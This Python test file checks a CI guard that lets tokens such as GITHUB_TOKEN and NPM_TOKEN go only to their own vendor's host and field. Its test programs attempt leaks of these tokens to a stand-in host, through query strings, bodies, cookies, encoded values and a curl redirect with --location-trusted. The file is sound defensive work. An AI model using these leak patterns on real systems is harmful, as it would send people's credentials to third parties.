"""Credentials of known kinds: at their own host in their own place they pass, anywhere else they are cut."""

from __future__ import annotations

import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.attacks.programs import PYTHON
from tests.attacks.test_exfiltration import SEND, assert_unwritten, sent
from tests.secrets.samples import jwt, sample
from tests.world import World
from tests.world.internet import API, MIRROR

# Real names, at addresses of the world's own: nothing here leaves the test's namespace.
HOSTS = {
    "api.github.com": API, "github.com": API, "registry.npmjs.org": API, "upload.pypi.org": API, "pypi.org": API, "gitlab.com": API,
    "crates.io": API, "api.telegram.org": API, "slack.com": API, "open-vsx.org": API, "hub.docker.com": API, "coveralls.io": API,
    "ghes.corp.example.net": API, "other.example.net": MIRROR,
}  # fmt: skip


@pytest.fixture(scope="module")
def named_world() -> Iterator[World]:
    one = World()
    one.names |= {name: (address,) for name, address in HOSTS.items()}
    with one:
        yield one


@pytest.fixture
def vendors(request: pytest.FixtureRequest) -> World:
    request.getfixturevalue("quiet_world")  # skips without root
    found: World = request.getfixturevalue("named_world")
    found.forget()
    return found


def policy(world: World, *lines: str) -> list[str]:
    """Every host allowed: only what belongs where is judged."""
    file = Path(world.directory) / "vendors.yml"
    file.write_text("\n".join(["version: 1", "allow:", *(f"  - {host}" for host in HOSTS), *lines]) + "\n")
    return ["--policy", str(file), "--on-exfiltration", "fail"]


# variable: (kind, its host, calls that pass, calls that do not). Each call: arguments of SEND's ``send`` after its name and host.
BASIC = "'Basic ' + base64.b64encode(('user:' + value).encode()).decode()"
FORM = "{'Content-Type': 'application/x-www-form-urlencoded'}"
JSON = "{'Content-Type': 'application/json'}"
PLACES: dict[str, tuple[str, str, list[str], list[str]]] = {
    "GITHUB_TOKEN": (
        "github-actions-token", "api.github.com",
        ["'GET', headers={'Authorization': 'Bearer ' + value}", "'GET', headers={'Authorization': 'token ' + value}", f"'GET', headers={{'Authorization': {BASIC}}}"],
        ["body=value", f"body=json.dumps({{'content': base64.b64encode(value.encode()).decode()}}), headers={JSON}", "'GET', '/?t=' + value", "'GET', '/' + value", "'GET', headers={'X-Data': value}", "'GET', headers={'Authorization': 'Bearer ' + value[::-1]}", "'GET', headers={'Authorization': 'Bearer ' + value, 'X-Also': value}"],
    ),
    "NPM_TOKEN": ("npm-token", "registry.npmjs.org", ["'PUT', '/pkg', body='{}', headers={'Authorization': 'Bearer ' + value}"], [f"'GET', headers={{'Authorization': {BASIC}}}", "'PUT', '/pkg', body=value"]),
    "TWINE_PASSWORD": ("pypi-token", "upload.pypi.org", [f"'POST', '/legacy/', body='x', headers={{'Authorization': {BASIC}}}"], ["'GET', headers={'Authorization': 'Bearer ' + value}", "'POST', '/legacy/', body=value"]),
    "GITLAB_TOKEN": ("gitlab-pat", "gitlab.com", ["'GET', headers={'PRIVATE-TOKEN': value}", "'GET', '/?private_token=' + value"], ["'GET', '/?other=' + value", "'GET', headers={'Cookie': 't=' + value}"]),
    "CARGO_REGISTRY_TOKEN": ("crates-token", "crates.io", ["'PUT', body='x', headers={'Authorization': value}"], ["'GET', headers={'X-Auth': value}"]),
    "TELEGRAM_BOT_TOKEN": ("telegram-bot", "api.telegram.org", ["'POST', '/bot' + value + '/sendMessage', body='hello'"], ["'POST', '/x/bot' + value + '/sendMessage'", "'POST', '/bot' + value + '/' + value", "'POST', '/bot1:a/send', body='text=' + value"]),
    "SLACK_TOKEN": ("slack-bot", "slack.com", [f"body='channel=c&token=' + value, headers={FORM}", "'GET', headers={'Authorization': 'Bearer ' + value}"], [f"body='token=x&text=' + value, headers={FORM}", f"body='token=' + value + '&text=' + value, headers={FORM}", f"body='token=' + base64.b64encode(value.encode()).decode(), headers={FORM}"]),
    "OVSX_PAT": ("openvsx", "open-vsx.org", ["'POST', '/api/-/publish?token=' + value, body='x'"], ["'POST', '/api?token=' + value + '&x=' + value", "'GET', headers={'Authorization': 'Bearer ' + value}"]),
    "DOCKERHUB_TOKEN": ("dockerhub-pat", "hub.docker.com", [f"body=json.dumps({{'username': 'u', 'password': value}}), headers={JSON}"], [f"body=json.dumps({{'username': value, 'password': 'x'}}), headers={JSON}", f"body=json.dumps({{'password': value, 'more': [value]}}), headers={JSON}", f"body=json.dumps({{'a': {{'password': value}}}}), headers={JSON}", "body=json.dumps({'password': value})", f"body=json.dumps({{'password': value, value: 1}}), headers={JSON}"]),
}  # fmt: skip


def program(host: str, calls: list[tuple[str, str]]) -> list[str]:
    lines = [f"send({name!r}, {call}, host={host!r})" for name, call in calls]
    return [PYTHON, "-c", SEND + "import base64, json, os\nvalue = os.environ['THE_VALUE']\n" + "\n".join(lines)]


@pytest.mark.parametrize("variable", PLACES)
def test_own_host_and_place_pass_and_all_others_are_cut(vendors: World, variable: str) -> None:
    kind, host, good, bad = PLACES[variable]
    value = sample(kind)
    calls = [(f"+ {call}", call) for call in good] + [(f"- {call}", call) for call in bad]
    outcome = vendors.guard.run(policy(vendors), program(host, calls), env={variable: value, "THE_VALUE": value})
    assert outcome.code == 91, outcome.stderr
    answers = sent(outcome)
    assert {name: answer for name, answer in answers.items() if (answer == "200") is not name.startswith("+")} == {}
    assert len(answers) == len(calls)
    assert {one["kind"] for event in outcome.events for one in event.get("findings", ()) if one["secret"] == variable} == {kind}
    assert_unwritten(value, outcome.everything_written())


@pytest.mark.parametrize("variable", PLACES)
def test_at_another_allowed_host_it_is_cut(vendors: World, variable: str) -> None:
    kind, _host, good, _bad = PLACES[variable]
    value = sample(kind)
    calls = [(f"{number}", call) for number, call in enumerate(good)]
    outcome = vendors.guard.run(policy(vendors), program("other.example.net", calls), env={variable: value, "THE_VALUE": value})
    assert outcome.code == 91, outcome.stderr
    assert set(sent(outcome).values()) == {"403"}
    assert vendors.received(MIRROR).strip() == b""


def test_where_exactly_it_sat_is_said(vendors: World) -> None:
    value = sample("npm-token")
    calls = [
        ("query", "'GET', '/?a=1&leak=' + value"),
        ("json", f"body=json.dumps({{'env': [{{'NPM': value}}]}}), headers={JSON}"),
        ("form", f"body='a=b&field=' + value, headers={FORM}"),
        ("basic", f"'GET', headers={{'Authorization': {BASIC}}}"),
        ("cookie", "'GET', headers={'Cookie': 'a=b; sid=' + value}"),
    ]
    outcome = vendors.guard.run(
        policy(vendors), program("registry.npmjs.org", calls), env={"NPM_TOKEN": value, "THE_VALUE": value}
    )
    fields = [one["field"] for event in outcome.events for one in event.get("findings", ()) if one["secret"] == "NPM_TOKEN"]
    assert fields == ["query:leak", "json:env.NPM", "form:field", "auth:basic.pass", "cookie:sid"]


def test_a_redirect_is_judged_anew(vendors: World) -> None:
    """curl keeps the header on its way to another host when it is told to trust redirects, as some clients always do."""
    value = sample("npm-token")
    command = ["sh", "-c", 'curl -sS --location-trusted -o /dev/null -w "%{http_code}\\n" -H "Authorization: Bearer $NPM_TOKEN" https://registry.npmjs.org/redirect/$0/x']  # fmt: skip
    for target, code, status in (
        ("registry.npmjs.org", 0, "200"),
        ("other.example.net", 91, "403"),
        ("api.github.com", 91, "403"),
    ):
        vendors.forget()
        outcome = vendors.guard.run(policy(vendors), [*command, target], env={"NPM_TOKEN": value})
        assert outcome.code == code, outcome.stderr
        assert outcome.stdout == f"{status}\n"
        seen = [request.path for one in vendors.at(API, MIRROR) for request in one.requests]
        assert seen == ([f"/redirect/{target}/x"] if code else [f"/redirect/{target}/x", "/x"])


def test_a_server_of_ones_own_is_named_by_the_jobs_variables(vendors: World) -> None:
    """GitHub Enterprise Server: the host that GITHUB_SERVER_URL names is GitHub's; without it, it is anybody's."""
    value = sample("github-pat-classic")
    calls = [("ghes", "'GET', headers={'Authorization': 'Bearer ' + value}")]
    env = {"GITHUB_TOKEN": value, "THE_VALUE": value}
    told = vendors.guard.run(
        policy(vendors), program("ghes.corp.example.net", calls), env=env | {"GITHUB_SERVER_URL": "https://ghes.corp.example.net"}
    )
    assert (told.code, sent(told)) == (0, {"ghes": "200"}), told.stderr
    untold = vendors.guard.run(policy(vendors), program("ghes.corp.example.net", calls), env=env)
    assert (untold.code, sent(untold)) == (91, {"ghes": "403"})


def test_coveralls_takes_a_token_in_the_body_where_the_policy_says_so(vendors: World) -> None:
    body = textwrap.dedent(
        """
        boundary = 'b0undary'
        document = json.dumps({'repo_token': value, 'source_files': []})
        form = f'--{boundary}\\r\\nContent-Disposition: form-data; name="json_file"; filename="json_file"\\r\\n\\r\\n{document}\\r\\n--{boundary}--\\r\\n'
        send('coveralls', 'POST', '/api/v1/jobs', body=form, headers={'Content-Type': f'multipart/form-data; boundary={boundary}'}, host='coveralls.io')
        """
    )
    command = [PYTHON, "-c", f"{SEND}\nimport json, os\nvalue = os.environ['GITHUB_TOKEN']\n{body}"]
    value = sample("github-actions-token")
    refused = vendors.guard.run(policy(vendors), command, env={"GITHUB_TOKEN": value})
    assert (refused.code, sent(refused)) == (91, {"coveralls": "403"})
    wanted = vendors.guard.run(policy(vendors, "exceptions: [coveralls]"), command, env={"GITHUB_TOKEN": value})
    assert (wanted.code, sent(wanted)) == (0, {"coveralls": "200"}), wanted.stderr


@pytest.mark.parametrize(
    ("audience", "host", "passes"),
    [("pypi", "pypi.org", True), ("pypi", "other.example.net", False), ("https://other.example.net", "other.example.net", True), ("sts.amazonaws.com", "pypi.org", False)],
)  # fmt: skip
def test_an_id_token_goes_to_its_audience(vendors: World, audience: str, host: str, passes: bool) -> None:
    value = jwt(iss="https://token.actions.githubusercontent.com", aud=audience)
    calls = [("mint", f"'POST', '/_/oidc/mint-token', body=json.dumps({{'token': value}}), headers={JSON}")]
    outcome = vendors.guard.run(policy(vendors), program(host, calls), env={"ID_TOKEN": value, "THE_VALUE": value})
    assert sent(outcome) == {"mint": "200" if passes else "403"}, outcome.stderr


def test_the_policys_own_binding_replaces_the_kinds(vendors: World) -> None:
    value = sample("npm-token")
    calls = [("json", f"body=json.dumps({{'auth': {{'key': value}}}}), headers={JSON}")]
    lines = ["secrets:", "  NPM_TOKEN: { to: [other.example.net], in: ['json:auth.key'] }"]
    env = {"NPM_TOKEN": value, "THE_VALUE": value}
    bound = policy(vendors, *lines)
    there = vendors.guard.run(bound, program("other.example.net", calls), env=env)
    # THE_VALUE is no secret by its name: the value has one name, and one binding.
    assert (there.code, sent(there)) == (0, {"json": "200"}), there.stderr
    calls = [("bearer", "'GET', headers={'Authorization': 'Bearer ' + value}")]
    assert sent(vendors.guard.run(bound, program("registry.npmjs.org", calls), env=env)) == {"bearer": "403"}


@pytest.mark.parametrize("names", [("NPM_TOKEN", "MY_TOKEN"), ("MY_TOKEN", "NPM_TOKEN")])
def test_a_value_with_two_names_goes_where_either_may(vendors: World, secret: str, names: tuple[str, str]) -> None:
    calls = [("bearer", "'GET', headers={'Authorization': 'Bearer ' + value}")]
    env = {**dict.fromkeys(names, secret), "THE_VALUE": secret}
    outcome = vendors.guard.run(policy(vendors), program("registry.npmjs.org", calls), env=env)
    assert (outcome.code, sent(outcome)) == (0, {"bearer": "200"}), outcome.stderr
